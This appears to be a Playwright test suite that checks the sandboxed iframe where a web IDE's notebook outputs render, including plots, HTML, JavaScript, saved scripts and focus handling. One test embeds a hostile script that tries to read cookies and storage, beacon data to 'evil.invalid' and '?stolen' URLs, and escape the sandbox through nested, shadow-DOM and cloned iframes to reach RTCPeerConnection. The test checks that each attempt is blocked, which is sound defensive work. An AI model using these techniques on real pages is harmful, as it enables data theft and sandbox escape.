import type { Frame, FrameLocator } from '@playwright/test';
import { OUTPUTS_IMAGE, test } from './fixtures/outputs.ts';
import { expect } from './fixtures/test.ts';
import { serious } from './pages/axe.ts';
import { Ide } from './pages/ide.ts';
import { type NotebookJson, type NotebookPage, notebookOf } from './pages/notebook-page.ts';

/** Outputs that need script, as real libraries draw them, in the sandboxed frame behind the cells. */
test.use({ beginsWithFile: true });

async function openWithKernel(ide: Ide, path: string): Promise<NotebookPage> {
  const notebook = await ide.openNotebook(path);
  await notebook.chooseEnvironment('ml.t3.medium', OUTPUTS_IMAGE);
  await notebook.whenKernel('idle');
  return notebook;
}

async function run(notebook: NotebookPage, index: number): Promise<void> {
  // An output above may come into its height between the look for the place and the press.
  await expect(async () => {
    await notebook.select(index);
    await expect(notebook.cell(index)).toHaveAttribute('aria-selected', 'true', { timeout: 1_000 });
  }).toPass();
  await notebook.page.keyboard.press('ControlOrMeta+Enter');
  await notebook.whenCell(index, 'done');
}

/** The document in which the outputs of a notebook are. */
const inside = ({ region }: NotebookPage): FrameLocator => region.frameLocator('iframe[title^="Outputs of"]');

function frameOf({ page }: NotebookPage): Frame {
  const frame = page.frames().find((one) => one.url().endsWith('/frames/outputs.html'));
  if (!frame) throw new Error('There is no frame of outputs.');
  return frame;
}

/** A slot that shows what is drawn at its place. */
const shown = (notebook: NotebookPage, index: number) =>
  notebook.cell(index).locator('.at-frame-slot:not([data-covered])');

const plotly = `import plotly.graph_objects as go
display(go.Figure(go.Scatter(x=list(range(100)), y=list(range(100))))._repr_mimebundle_(), raw=True)`;

test('plotly keeps its zoom, and a document of its own what was typed, after 100 cells away and back [J2, J3]', async ({
  ide,
}) => {
  const cells = Array.from({ length: 120 }, (_, i) => `${i}\n# some\n# lines\n# more`);
  const whole = 'from IPython.display import HTML\nHTML("<!doctype html><html><body><input></body></html>")';
  await ide.write('zoom.ipynb', notebookOf(plotly, whole, ...cells));
  const notebook = await openWithKernel(ide, 'zoom.ipynb');
  const { page } = ide;
  await run(notebook, 0);
  await expect(shown(notebook, 0)).toBeVisible({ timeout: 30_000 });
  const plot = inside(notebook).locator('.js-plotly-plot');
  await expect(plot.locator('.nsewdrag').first()).toBeVisible();
  // The pointer goes through the cell to what lies behind.
  const box = await plot.locator('.nsewdrag').first().boundingBox();
  if (!box) throw new Error('no plot');
  await page.mouse.move(box.x + box.width * 0.3, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.6, box.y + box.height / 2, { steps: 5 });
  await page.mouse.up();
  const range = () =>
    plot.evaluate((element) =>
      (element as unknown as { layout: { xaxis: { range: number[] } } }).layout.xaxis.range.map(Math.round),
    );
  await expect.poll(async () => (await range())[0]).toBeGreaterThan(20);
  const zoomed = await range();

  await run(notebook, 1);
  const field = notebook.cell(1).frameLocator('iframe').getByRole('textbox');
  await field.fill('kept');

  const list = notebook.region.getByRole('list', { name: 'Cells' });
  await notebook.select(2);
  const scroller = notebook.region.locator('.at-cells-scroll');
  await scroller.evaluate((element) => element.scrollTo(0, element.scrollHeight));
  await expect(notebook.cell(115)).toBeVisible();
  await notebook.select(115);
  for (const index of [0, 1]) await expect(list.locator(`[data-cell-index="${index}"]`)).toHaveCount(0);
  await scroller.evaluate((element) => element.scrollTo(0, 0));
  await expect(shown(notebook, 0)).toBeVisible();
  expect(await range()).toEqual(zoomed);
  await expect(field).toHaveValue('kept');
  const again = await plot.locator('.nsewdrag').first().boundingBox();
  expect(Math.abs((again?.y ?? 0) - box.y)).toBeLessThan(3);
});

const charts = [
  `import altair as alt
data = alt.Data(values=[{"a": 1, "b": 2}, {"a": 3, "b": 1}])
chart = alt.Chart(data).mark_bar().encode(x="a:Q", y="b:Q")
chart`,
  `with alt.renderers.enable("mimetype"):
    display(chart)`,
  `from bokeh.plotting import figure, show
from bokeh.io import output_notebook
output_notebook()`,
  `p = figure(width=300, height=200)
p.line([1, 2, 3], [1, 3, 2])
show(p)`,
  `from IPython.display import Javascript, HTML
Javascript("""
element.innerHTML = '<button>pressed 0</button>';
element.firstChild.onclick = (event) => { event.target.textContent = 'pressed 1' };
""")`,
  `HTML("""<p id=out>before</p>
<script>document.getElementById('out').textContent = 'after ' + (1 + 1)</script>""")`,
  `HTML("""<!doctype html><html><body><h1>Whole</h1>
<script>document.querySelector('h1').append(' document')</script></body></html>""")`,
];

test('Altair, Bokeh, JavaScript, HTML with script and a whole document draw; nothing comes from elsewhere, and the keyboard goes in and out [J1, J2]', async ({
  ide,
}) => {
  const { page } = ide;
  await ide.write('charts.ipynb', notebookOf(...charts));
  const notebook = await openWithKernel(ide, 'charts.ipynb');
  for (const index of [0, 1, 2, 3, 4, 5, 6]) await run(notebook, index);
  const frame = inside(notebook);
  for (const index of [0, 1]) {
    await notebook.select(index);
    await expect(shown(notebook, index)).toBeVisible({ timeout: 30_000 });
  }
  await expect(frame.locator('.vega-embed canvas')).toHaveCount(2);
  await notebook.select(3);
  await expect(frame.locator('.bk-Figure')).toBeVisible({ timeout: 30_000 });
  await expect(notebook.cell(3).locator('.at-frame-slot[data-covered]')).toHaveCount(0);

  await notebook.select(4);
  await expect(shown(notebook, 4)).toBeVisible();
  await frame.getByRole('button', { name: 'pressed 0' }).click();
  await expect(frame.getByRole('button', { name: 'pressed 1' })).toBeVisible();
  await notebook.select(5);
  await expect(frame.getByText('after 2')).toBeVisible();
  await notebook.select(6);
  const own = notebook.cell(6).frameLocator('iframe');
  await expect(own.getByRole('heading', { name: 'Whole document' })).toBeVisible();

  // In by its own stop, out by Escape to the cell and by Tab to what follows.
  await notebook.select(4);
  const enter = page.getByRole('button', { name: 'Enter output of cell 5' });
  await enter.focus();
  await page.keyboard.press('Enter');
  await expect(frame.getByRole('button', { name: 'pressed 1' })).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(notebook.cell(4)).toBeFocused();
  await enter.focus();
  await page.keyboard.press('Enter');
  await expect(frame.getByRole('button', { name: 'pressed 1' })).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  await expect(enter).toBeFocused();
  expect(await serious(page)).toEqual([]);
});

const savedHtml = (text: string) => ({
  output_type: 'display_data',
  data: {
    'text/html': `<p>static</p><script>document.currentScript.previousElementSibling.textContent = '${text}'</script>`,
    'text/plain': 'words',
  },
  metadata: {},
});

async function writeSaved(ide: Ide, path: string, ...outputs: object[]): Promise<void> {
  const notebook = JSON.parse(notebookOf(...outputs.map(() => 'pass'))) as NotebookJson;
  for (const [index, output] of outputs.entries())
    Object.assign(notebook.cells[index] ?? {}, { outputs: [output] });
  await ide.write(path, `${JSON.stringify(notebook, null, 1)}\n`);
}

test('saved scripts wait for one click a notebook; it counts for what was there, not for what comes later [J2, P4]', async ({
  ide,
}) => {
  await writeSaved(ide, 'saved.ipynb', savedHtml('first ran'), savedHtml('second ran'));
  let notebook = await ide.openNotebook('saved.ipynb');
  await expect(notebook.output(0)).toContainText('static');
  await expect(notebook.output(0)).toContainText('scripts');
  await expect(notebook.region.locator('iframe')).toHaveCount(0);
  await notebook.cell(1).getByRole('button', { name: 'Run scripts of this notebook' }).click();
  const frame = inside(notebook);
  await expect(frame.getByText('first ran')).toBeVisible();
  await expect(frame.getByText('second ran')).toBeVisible();
  await notebook.whenIdle();

  await expect
    .poll(() =>
      ide.page.evaluate(() => Object.keys(localStorage).some((key) => key.includes('notebook.scripts'))),
    )
    .toBe(true);
  notebook = await ide.openNotebook('saved.ipynb');
  await expect(inside(notebook).getByText('first ran')).toBeVisible();

  await writeSaved(ide, 'saved.ipynb', savedHtml('first ran'), savedHtml('another'));
  notebook = await ide.openNotebook('saved.ipynb');
  await expect(inside(notebook).getByText('first ran')).toBeVisible();
  await expect(notebook.cell(1).getByRole('button', { name: 'Run scripts of this notebook' })).toBeVisible();
  await expect(inside(notebook).getByText('another')).toHaveCount(0);
});

/** What a script in the frame tries, and what it gets. */
const attack = `
const results = {};
const attempt = async (name, act) => {
  try { results[name] = String(await act()); } catch (error) { results[name] = error.name; }
};
(async () => {
  await attempt('page', () => parent.document.title);
  await attempt('top', () => top.location.href);
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('database', () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x'); request.onsuccess = () => resolve('open'); request.onerror = () => reject(request.error);
  }));
  await attempt('fetch', () => fetch(ORIGIN + '/api/studio/v1/apps').then((answer) => answer.status));
  await attempt('elsewhere', () => fetch('https://evil.invalid/a').then((answer) => answer.status));
  await attempt('socket', () => new Promise((resolve) => {
    const socket = new WebSocket(ORIGIN.replace('http', 'ws') + '/x'); socket.onerror = () => resolve('refused'); socket.onopen = () => resolve('open');
  }));
  await attempt('beacon', () => new Promise((resolve) => {
    const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused'); image.src = ORIGIN + '/favicon.svg?stolen';
  }));
  await attempt('eval', () => eval('1 + 1'));
  await attempt('peer', () => typeof RTCPeerConnection);
  await attempt('nested', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return typeof frame.contentWindow.RTCPeerConnection;
  });
  await attempt('document', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")</' + 'script>';
    addEventListener('message', (event) => resolve(event.data), { once: true });
    document.body.append(frame);
    setTimeout(() => resolve('nothing'), 1000);
  }));
  await attempt('shadow', () => new Promise((resolve) => {
    const host = document.createElement('div');
    document.body.append(host);
    MutationObserver.prototype.observe = () => {};
    addEventListener('message', (event) => resolve(event.data), { once: true });
    host.attachShadow({ mode: 'closed' }).innerHTML =
      '<p><iframe srcdoc="<script>parent.postMessage(typeof RTCPeerConnection, &quot;*&quot;)</' + 'script>"></iframe></p>';
    setTimeout(() => resolve('nothing'), 1000);
  }));
  const spy = '<iframe srcdoc="<script>parent.postMessage(typeof RTCPeerConnection, &quot;*&quot;)</' + 'script>"></iframe>';
  const heard = () => new Promise((resolve) => {
    addEventListener('message', (event) => resolve(event.data), { once: true });
    setTimeout(() => resolve('nothing'), 1000);
  });
  await attempt('clone', () => {
    const host = document.createElement('div');
    host.attachShadow({ mode: 'open', clonable: true }).innerHTML = spy;
    document.body.append(host.cloneNode(true));
    return heard();
  });
  await attempt('written', () => {
    document.write('<div><template shadowrootmode="open">' + spy + '</template></div>');
    return heard();
  });
  await attempt('parsed', () => {
    const host = document.createElement('div');
    document.body.append(host);
    host.setHTML('<p><template shadowrootmode="open"></template></p>', { sanitizer: {} });
    host.firstChild.shadowRoot.innerHTML = spy;
    return heard();
  });
  await attempt('popup', () => window.open('https://evil.invalid/popup'));
  document.getElementById('results').textContent = JSON.stringify(results);
})();`;

test('a hostile script reaches neither page, storage nor network, and cannot go away; an endless one leaves the page usable [J2, P4]', async ({
  page,
  product,
}) => {
  // Not the `ide` of the fixture: the browser says on the console what it refuses.
  const ide = new Ide(page, product);
  await ide.takeSession();
  const answered: string[] = [];
  // What a policy refuses is begun and never answered.
  page.on('response', (response) => answered.push(response.url()));
  const html = (script: string) => ({
    output_type: 'display_data',
    data: { 'text/html': `<div id=results>…</div><script>${script}</script>` },
    metadata: {},
  });
  await writeSaved(
    ide,
    'hostile-script.ipynb',
    html(attack.replaceAll('ORIGIN', JSON.stringify(product.origin))),
    html('window.spin = () => { for (;;); }; document.currentScript.previousElementSibling.id = "spinner"'),
  );
  const notebook = await ide.openNotebook('hostile-script.ipynb');
  await notebook.cell(0).getByRole('button', { name: 'Run scripts of this notebook' }).click();
  const results = inside(notebook).locator('#results');
  await expect(results).toContainText('popup', { timeout: 30_000 });
  expect(JSON.parse((await results.textContent()) ?? '')).toEqual({
    page: 'SecurityError',
    top: 'SecurityError',
    cookie: 'SecurityError',
    storage: 'SecurityError',
    database: 'SecurityError',
    fetch: 'TypeError',
    elsewhere: 'TypeError',
    socket: expect.stringMatching(/refused|SecurityError/),
    beacon: 'refused',
    eval: 'EvalError',
    peer: 'undefined',
    nested: expect.stringMatching(/SecurityError|TypeError/),
    shadow: 'nothing',
    document: 'nothing',
    clone: 'nothing',
    written: 'TypeError',
    parsed: 'TypeError',
    popup: 'null',
  });
  expect(answered.filter((url) => /evil|stolen|\/x$/.test(url))).toEqual([]);

  // It leads its own document away: nobody gets there, and the page notices.
  const seen = answered.length;
  await frameOf(notebook).evaluate((origin) => {
    location.href = `${origin}/favicon.svg?secret`;
  }, product.origin);
  const stopped = notebook.region.getByRole('alert').filter({ hasText: 'Outputs stopped' });
  await expect(stopped).toBeVisible({ timeout: 20_000 });
  expect(answered.slice(seen).filter((url) => url.includes('secret'))).toEqual([]);
  expect(new URL(page.url()).origin).toBe(product.origin);
  await stopped.getByRole('button', { name: 'Run them again' }).click();
  await expect(results).toContainText('popup', { timeout: 30_000 });
  await expect(stopped).toHaveCount(0);

  // It never ends: the page does not wait for it.
  await expect(inside(notebook).locator('#spinner')).toBeAttached();
  void frameOf(notebook)
    .evaluate(() => (globalThis as unknown as { spin(): void }).spin())
    .catch(() => undefined);
  await notebook.type(1, 'still = "usable"');
  await expect(notebook.cell(1)).toContainText('usable');
  await expect(stopped).toBeVisible({ timeout: 30_000 });
  await stopped.getByRole('button', { name: 'Run them again' }).click();
  await expect(results).toContainText('popup', { timeout: 30_000 });
});
